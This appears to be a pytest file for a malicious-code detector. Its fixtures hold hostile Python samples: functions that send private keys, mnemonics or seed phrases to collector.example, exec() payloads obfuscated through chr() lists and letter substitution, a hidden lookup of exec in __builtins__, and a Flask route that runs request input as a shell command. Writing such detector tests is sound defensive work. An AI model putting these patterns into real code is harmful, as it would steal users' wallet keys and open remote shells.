"""What a caller hands over, and text that is computed letter by letter."""

from __future__ import annotations

import textwrap

import pytest

from tests.sources import code_evidence, features, places


def _found(source: str, path: str = "demo/__init__.py") -> set[str]:
    return features(code_evidence({path: textwrap.dedent(source)}))


SENDERS = {
    "parameter": """\
        import requests
        def sign(message, private_key):
            requests.post("https://collector.example/in", json={"k": private_key})
        """,
    "attribute": """\
        import requests
        class Wallet:
            def sign(self, message):
                requests.post("https://collector.example/in", data=str(self.mnemonic))
        """,
    "through a helper": """\
        import requests
        def _note(value):
            requests.get("https://collector.example/?q=" + value)
        def derive(seed_phrase, index):
            _note(seed_phrase)
        """,
}


@pytest.mark.parametrize("source", SENDERS.values(), ids=SENDERS)
def test_a_key_that_is_sent_to_a_fixed_address_is_a_chain(source: str) -> None:
    assert "chain_handed_key_net" in _found(source)


NEIGHBOURS = {
    "the caller names the address": """\
        import requests
        def sign(url, private_key):
            requests.post(f"https://{url}/in", json={"k": private_key})
        """,
    "a password is no key": """\
        import requests
        def login(user, password):
            requests.post("https://api.demo.example/login", data={"password": password})
        """,
    "nothing of the key is sent": """\
        import requests
        def sign(message, private_key):
            requests.get("https://api.demo.example/version")
            return make(message, private_key)
        """,
}


@pytest.mark.parametrize("source", NEIGHBOURS.values(), ids=NEIGHBOURS)
def test_its_neighbours_are_none(source: str) -> None:
    assert "chain_handed_key_net" not in _found(source)


COMPUTED = {
    "substitution": """\
        import string
        a = string.ascii_letters
        r = a[::-1]
        exec("".join([r[a.index(c)] if c in r else c for c in "KIRMG('o'); KIRMG('p')"]))
        """,
    "a bound join": """\
        j = "".join
        exec(j([chr(n) for n in [105, 109, 112, 111, 114, 116, 32, 111, 115]]))
        """,
    "letters through a table that is not known": """\
        import sys
        table = sys.argv
        exec("".join([table[ord(c) % 7] for c in "kjhsdfkjhsdfkjhsdf"]))
        """,
}


@pytest.mark.parametrize("source", COMPUTED.values(), ids=COMPUTED)
def test_code_that_is_computed_letter_by_letter_counts_as_decoded(source: str) -> None:
    assert "chain_decode_exec_unasked" in _found(source)


def test_builtins_behind_an_alias_of_globals_are_a_hidden_look_up() -> None:
    source = """\
        every = globals
        j = "".join
        f = getattr(every()[j([chr(n) for n in [95, 95, 98, 117, 105, 108, 116, 105, 110, 115,
                                                95, 95]])], j([chr(n) for n in [101, 120, 101, 99]]))
        """
    assert "hidden_lookup_unasked" in _found(source)


def test_a_request_that_is_run_as_a_command_is_a_remote_shell() -> None:
    source = """\
        import subprocess
        from flask import Flask, request
        app = Flask(__name__)
        @app.route("/x")
        def x():
            return subprocess.Popen(request.args.get("c"), shell=True)
        """
    assert "chain_net_exec" in _found(source)


def test_methods_wrapped_in_a_loop_over_written_names_are_no_hidden_look_up() -> None:
    source = """\
        import socket
        for name in ("sendto", "send", "recv"):
            method = getattr(socket.socket, name, None)
        """
    assert "hidden_lookup" not in _found(source)


def test_both_sides_of_a_test_on_constants_are_read() -> None:
    source = """\
        import os
        x = 1
        if input():
            x = 2
        (os.system("echo a")
         if x == 1 else
         os.popen("echo b"))
        """
    found = code_evidence({"demo/__init__.py": textwrap.dedent(source)})
    assert {line for _, line in places(found, "proc_spawn_unasked")} == {5, 7}
